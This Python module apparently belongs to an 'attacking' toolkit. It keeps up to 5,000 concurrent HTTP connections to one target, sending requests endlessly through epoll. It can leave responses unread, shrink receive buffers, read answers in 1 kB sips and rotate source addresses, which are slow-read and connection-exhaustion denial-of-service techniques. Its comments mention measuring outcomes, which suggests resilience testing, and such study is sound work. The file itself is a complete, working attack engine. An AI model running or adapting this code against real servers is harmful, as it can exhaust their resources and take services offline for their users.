"""Many HTTP connections of one process at once, at little CPU: each sends bytes made before and
reads, or does not.
"""

from __future__ import annotations

import errno
import heapq
import select
import socket
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from itertools import cycle

from attacking.target import ADDRESSES, Target

SLOTS_MAX = 5_000
_IP_BIND_ADDRESS_NO_PORT = 24
"""Linux, in.h: choose the port at `connect`, so that ports are shared by destinations."""

_AGAIN_SECONDS = 0.05
"""Pause of a slot after an answer that did the attacker's work."""

_REFUSED_AGAIN_SECONDS = 0.5
"""Pause of a slot after a refusal or a closed connection: a plain flood of refusals is not what is
measured.
"""

_READ_BYTES = 256 * 1024
_TICK_SECONDS = 0.1


class _Client:
    """One connection."""

    def __init__(self, target: Target, request: bytes, receive_buffer: int, address: str) -> None:
        self.socket = socket.socket()
        self.unsent = memoryview(request)
        self.answer = b""
        self.socket.setblocking(False)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        with suppress(OSError):  # an old kernel: only many thousands of connections need it
            self.socket.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
        self.socket.bind((address, 0))
        if (code := self.socket.connect_ex((target.host, target.port))) not in {
            0,
            errno.EINPROGRESS,
        }:
            self.socket.close()
            raise OSError(code, "not connected")

    def send(self) -> None:
        """Send what the server takes now. Raises OSError when it has closed."""
        with suppress(BlockingIOError):
            while self.unsent:
                self.unsent = self.unsent[self.socket.send(self.unsent[:_READ_BYTES]) :]

    def read(self, size: int) -> bool:
        """Read up to `size` bytes and keep the first; return whether the connection has ended."""
        try:
            data = self.socket.recv(size)
        except BlockingIOError:
            return False
        except OSError:
            return True
        if len(self.answer) < len("HTTP/1.1 200"):
            self.answer += data[:16]
        return not data

    @property
    def outcome(self) -> str:
        """The status of the answer, or "closed" without one."""
        return self.answer[9:12].decode("latin-1") if self.answer else "closed"


class Crowd:
    """Connections to one target, until `close`; with `is_reading` false, answers are left in the
    server's hands.

    With `sip_seconds`, 1 kB of each answer is read that often. `addresses` is how many they come
    from in turns.
    """

    def __init__(
        self,
        target: Target,
        tally: Counter[str],
        *,
        is_reading: bool = True,
        receive_buffer: int = 0,
        sip_seconds: float = 0.0,
        addresses: int = 1,
    ) -> None:
        self._target = target
        self._tally = tally
        self._is_reading = is_reading
        self._receive_buffer = receive_buffer
        self._sip_seconds = sip_seconds
        self._addresses = cycle(ADDRESSES[:addresses])
        self._clients: dict[int, _Client] = {}
        self._poll = select.epoll()

    def keep(self, requests: Iterator[bytes], slots: int) -> None:
        """Keep `slots` of the endless requests under way at once, without an end."""
        free = [time.monotonic()] * min(slots, SLOTS_MAX)  # when each slot may send again
        next_sip = time.monotonic() + self._sip_seconds
        while True:
            now = time.monotonic()
            while free and free[0] <= now:
                heapq.heappop(free)
                self._open(next(requests), free)
            self._turn(free)
            if self._sip_seconds and now >= next_sip:
                self._sip(free)
                next_sip = now + self._sip_seconds

    def close(self) -> None:
        """Close all connections; those without an answer count as unanswered, those being answered
        by their status.
        """
        for client in self._clients.values():
            outcome = client.outcome
            self._tally["unanswered" if outcome == "closed" else f"{outcome} unread"] += 1
            client.socket.close()
        self._clients.clear()
        self._poll.close()

    def _open(self, request: bytes, free: list[float]) -> None:
        try:
            client = _Client(self._target, request, self._receive_buffer, next(self._addresses))
        except OSError:
            self._tally["not connected"] += 1
            heapq.heappush(free, time.monotonic() + _REFUSED_AGAIN_SECONDS)
            return
        self._clients[client.socket.fileno()] = client
        self._poll.register(client.socket, select.EPOLLOUT | self._reading)

    @property
    def _reading(self) -> int:
        return select.EPOLLIN if self._is_reading else select.EPOLLRDHUP

    def _turn(self, free: list[float]) -> None:
        for number, events in self._poll.poll(_TICK_SECONDS):
            client = self._clients[number]
            has_ended = bool(events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP))
            if events & select.EPOLLOUT and not has_ended:
                try:
                    client.send()
                except OSError:
                    has_ended = True
                if not client.unsent:
                    self._poll.modify(client.socket, self._reading)
            if has_ended:
                client.read(_READ_BYTES)
            elif events & select.EPOLLIN:
                has_ended = client.read(_READ_BYTES)
            if has_ended:
                self._end(number, free)

    def _sip(self, free: list[float]) -> None:
        for number, client in list(self._clients.items()):
            if client.read(1024):
                self._end(number, free)

    def _end(self, number: int, free: list[float]) -> None:
        client = self._clients.pop(number)
        self._poll.unregister(client.socket)
        client.socket.close()
        self._tally[client.outcome] += 1
        pause = _AGAIN_SECONDS if client.outcome == "200" else _REFUSED_AGAIN_SECONDS
        heapq.heappush(free, time.monotonic() + pause)
